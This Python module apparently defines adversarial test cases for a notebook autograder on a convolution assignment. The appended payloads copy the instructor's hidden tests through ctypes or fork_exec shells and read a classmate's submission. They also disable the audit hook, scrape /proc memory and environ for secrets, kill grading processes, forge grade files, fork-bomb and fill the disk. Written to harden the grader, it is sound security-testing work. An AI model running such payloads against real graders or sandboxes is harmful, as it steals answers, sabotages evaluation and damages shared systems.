"""Tricks outside Python's rules: shells through ctypes and fork_exec, reading what the grader,
the instructor and classmates keep (files, ``/proc``), killing other processes, forged results on
inherited file descriptors, a detached process that strikes after the run, leftovers, the disk, a
fork bomb. All on 02_convolution; a trick that steals answers starts from the stub and deserves
the stub's score."""

from __future__ import annotations

from .case import Case
from .snippets import ADOPT, LIBC, PROCS

A = "02_convolution"
LAST = "conv2d_naive"


def _try(code: str) -> str:
    """Run ``code`` and carry on with the honest answers if the grader stops it."""
    body = "\n".join("    " + line if line else "" for line in code.strip("\n").split("\n"))
    return f"try:\n{body}\nexcept BaseException as _e:\n    print('blocked:', type(_e).__name__)\n"


STEAL_SHELL = LIBC + ADOPT + _try('''
_libc.system(b"cp '$source_nb' stolen.ipynb")
print("adopted", _adopt(open("stolen.ipynb").read()), "answers")
''')

STEAL_CDLL = ADOPT + _try('''
import ctypes
ctypes.CDLL(None).system(b"cp '$source_nb' stolen.ipynb")
print("adopted", _adopt(open("stolen.ipynb").read()), "answers")
''')

STEAL_FORK_EXEC = ADOPT + _try('''
import os, _posixsubprocess
r, w = os.pipe()
args = [b"/bin/cp", b"$source_nb", b"stolen.ipynb"]
try:
    pid = _posixsubprocess.fork_exec(args, [args[0]], True, (w,), None, None, -1, -1, -1, -1,
                                     -1, -1, r, w, True, False, -1, None, None, None, -1, None,
                                     False)
except TypeError:  # Python 3.12+: no vfork flag
    pid = _posixsubprocess.fork_exec(args, [args[0]], True, (w,), None, None, -1, -1, -1, -1,
                                     -1, -1, r, w, True, False, -1, None, None, None, -1, None)
os.close(w)
os.waitpid(pid, 0)
print("adopted", _adopt(open("stolen.ipynb").read()), "answers")
''')

STEAL_BANG = ADOPT + _try('''
get_ipython().system("cp '$source_nb' stolen.ipynb")
print("adopted", _adopt(open("stolen.ipynb").read()), "answers")
''')

STEAL_RAW = LIBC + ADOPT + _try('''
print("adopted", _adopt(_raw_read("$source_nb").decode()), "answers")
''')

STEAL_CLASSMATE = LIBC + ADOPT + _try('''
print("adopted", _adopt(_raw_read("$victim_nb").decode()), "answers of $victim")
''')

# switch the kernel's audit hook off (its re-entrancy flag, found through gc), then read freely
AUDIT_GC = ADOPT + _try('''
import gc
for _f in gc.get_objects():
    if callable(_f) and getattr(_f, "__name__", "") == "hook" and getattr(_f, "__closure__", None):
        for _cell in _f.__closure__:
            if isinstance(_cell.cell_contents, list) and _cell.cell_contents == [False]:
                _cell.cell_contents[0] = True
print("adopted", _adopt(open("$source_nb").read()), "answers")
''')

# everything /proc shows: the instructor's secret (environ), hidden tests (memory), commands
PROC_SNOOP = PROCS + _try('''
import re
_found = {}
for _pid, _cmd in _procs().items():
    try:
        with open(f"/proc/{_pid}/environ", "rb") as f:
            for _kv in f.read().split(b"\\0"):
                if _kv.startswith(b"$secret_env="):
                    _found["secret"] = _kv.split(b"=", 1)[1].decode()
    except OSError:
        pass
    if "cnnlab" not in _cmd or len(_found.get("hidden", "")) > 0:
        continue
    try:
        with open(f"/proc/{_pid}/maps") as maps, open(f"/proc/{_pid}/mem", "rb") as mem:
            for _line in maps:
                _lo, _hi = (int(a, 16) for a in _line.split()[0].split("-"))
                if "rw" not in _line.split()[1] or _hi - _lo > 1 << 28:
                    continue
                mem.seek(_lo)
                _blob = mem.read(_hi - _lo)
                _i = _blob.find(b"### BEGIN HIDDEN TESTS")
                if _i >= 0:
                    _found["hidden"] = _blob[_i:_i + 600].decode(errors="replace")
                    break
    except (OSError, ValueError, OverflowError):
        pass
print("stolen:", _found)
''') + '''

def conv2d_naive(x, w, b):
    raise NotImplementedError(f"stolen: {_found!r}" if "_found" in globals() else "nothing")
'''


def _kill(ancestors: bool) -> str:
    """SIGKILL every process of this grading run that the code can see: the grading worker and
    classmates' kernels (same top folder as this kernel's cwd), and with ``ancestors`` every
    cnnlab process above it (the instructor's command). Never other users of the machine."""
    return PROCS + _try(f'''
import os, signal
_top = "/".join(os.getcwd().split("/")[:3])
_victims = []
_seen = _procs()
if len(_seen) < 20:  # a PID namespace of its own: everything in sight belongs to this run
    _victims = list(_seen)
for _pid, _cmd in ({{}} if _victims else _seen).items():
    try:
        _cwd = os.readlink(f"/proc/{{_pid}}/cwd")
    except OSError:
        _cwd = ""
    # only this grading run: its stage folder, processes of cnnlab or a kernel, never pytest
    _shared = ("/work", "/home", "/root", "/usr", "/tmp/pytest-of")
    if (_top.count("/") >= 2 and not _top.startswith(_shared)
            and ("cnnlab" in _cmd or "kernel" in _cmd or "bwrap" in _cmd)
            and "pytest" not in _cmd and (_cwd.startswith(_top) or _top in _cmd)):
        _victims.append(_pid)
if {ancestors!r}:
    _p = os.getppid()
    while _p > 1:
        _cmd = _procs().get(_p, "")
        if "cnnlab" in _cmd and "pytest" not in _cmd:
            _victims.append(_p)
        try:
            with open(f"/proc/{{_p}}/stat") as f:
                _p = int(f.read().rsplit(")", 1)[1].split()[1])
        except OSError:
            break
print("killing", len(_victims), "processes")
for _pid in _victims:
    try:
        os.kill(_pid, signal.SIGKILL)
    except OSError as e:
        print("kill", _pid, type(e).__name__)
''')


def _forge(target: str, score: str) -> str:
    """A result file naming ``target`` with every grade ``score``, announced as ``done <file>``
    (today's worker protocol) on every descriptor 0-20 and on stdout, plus garbage."""
    return _try(f'''
import json, os, sys
_grades = [{{"name": n, "auto_score": {score}, "needs_manual_grade": False, "max_score": p}}
           for n, p in [("test_conv_single_step", 3), ("test_conv2d_naive", 4),
                        ("test_conv2d_naive_errors", 1)]]
_forged = {{"student": "{target}", "assignment": "02_convolution", "error": None, "flags": [],
           "seconds": 0.1, "cell_seconds": {{}}, "log": "", "timestamp": None,
           "autograded": os.getcwd(),
           "notebooks": {{"02_convolution": {{"late_penalty": None, "grades": _grades,
                                            "comments": []}}}}}}
with open("forged.json", "w") as f:
    json.dump(_forged, f)
_line = ("done " + os.path.abspath("forged.json") + "\\n").encode()
for _fd in range(0, 21):
    for _data in (_line, json.dumps(_forged).encode() + b"\\n", b"\\x00\\xff garbage\\n" * 4):
        try:
            os.write(_fd, _data)
        except OSError:
            pass
for _s in (sys.stdout, sys.__stdout__, sys.stderr, sys.__stderr__):
    try:
        _s.write(_line.decode())
        _s.flush()
    except Exception:
        pass
''')


DETACHED = LIBC + _try('''
_spawn("sleep $sleep; for f in '$gradebook' '$victim_graded' '$victim_nb'; do "
       "printf pwned > \\"$$f\\"; done; touch '$root/pwned-detached-$mark'", detach=True)
''')

LEFTOVER = LIBC + _try('''
for _ in range(3):
    _spawn("sleep 900")
''')

FORK_BOMB = LIBC + _try('''
_n = 0
while _n < 300 and _spawn("sleep 900") > 0:
    _n += 1
print("started", _n)
''')

FILL_DISK = _try('''
import os, tempfile
_chunk, _total = b"\\0" * (1 << 24), 0
for _d in (os.getcwd(), os.path.expanduser("~"), tempfile.gettempdir(), "/tmp", "/dev/shm"):
    for _i in range(64):
        if _total >= 1 << 30:  # 1 GiB at most: this machine is shared
            break
        try:
            with open(os.path.join(_d, f"fill-{_i}.bin"), "wb") as f:
                for _ in range(4):
                    f.write(_chunk)
                    _total += len(_chunk)
        except OSError:
            break
print("wrote", _total >> 20, "MiB")
''')


def cases() -> list[Case]:
    s = dict(assignment=A, base="stub")
    z = dict(assignment=A, base="zeros")
    return [
        Case("t02ctypes", **s, append={LAST: STEAL_SHELL},
             note="ctypes.pythonapi.system runs a shell that copies the hidden-test notebook"),
        Case("t02cdll", **s, append={LAST: STEAL_CDLL},
             note="ctypes.CDLL(None).system copies the instructor's notebook"),
        Case("t02forkexec", **s, append={LAST: STEAL_FORK_EXEC},
             note="_posixsubprocess.fork_exec runs cp on the instructor's notebook"),
        Case("t02bang", **s, append={LAST: STEAL_BANG},
             note="IPython's `!cp` (get_ipython().system) on the instructor's notebook"),
        Case("t02rawread", **s, append={LAST: STEAL_RAW},
             note="libc open/read of solutions/ (no audit event), answers exec'd"),
        Case("t02classmate", **s, append={LAST: STEAL_CLASSMATE},
             note="libc open/read of an honest classmate's submission, answers exec'd"),
        Case("t02auditgc", **s, append={LAST: AUDIT_GC},
             note="audit hook switched off through gc (its busy flag), solutions read"),
        Case("t02proc", **s, append={LAST: PROC_SNOOP},
             note="/proc/*/environ (instructor's secret), /proc/<pid>/mem (hidden tests) printed "
                  "and raised"),
        Case("t02kill", **z, append={LAST: _kill(ancestors=False)}, at_most=True,
             note="SIGKILL to every process of the run it can see (worker, classmates' kernels)"),
        Case("t02killparent", **z, append={LAST: _kill(ancestors=True)}, at_most=True,
             note="SIGKILL to its ancestors too (the instructor's cnnlab command)"),
        Case("t02forgevictim", **z, append={LAST: _forge("$victim", "0.0")}, at_most=True,
             note="`done <forged.json>` on fds 0-20/stdout: an honest classmate at 0/8"),
        Case("t02forgeself", **z, append={LAST: _forge("t02forgeself", "float(p)")}, at_most=True,
             note="`done <forged.json>` on fds 0-20/stdout: itself at 8/8"),
        Case("t02detached", **s, append={LAST: DETACHED},
             note="setsid double fork; after the run it rewrites the gradebook and a classmate's "
                  "files"),
        Case("t02leftover", **s, append={LAST: LEFTOVER},
             note="three child processes that would outlive the run by 15 minutes"),
        Case("t02forkbomb", **z, append={LAST: FORK_BOMB}, at_most=True,
             note="a fork bomb (capped at 300 processes)"),
        Case("t02disk", **z, append={LAST: FILL_DISK}, at_most=True,
             note="fills the disk (cwd, home, /tmp, /dev/shm; capped at 1 GiB)"),
    ]
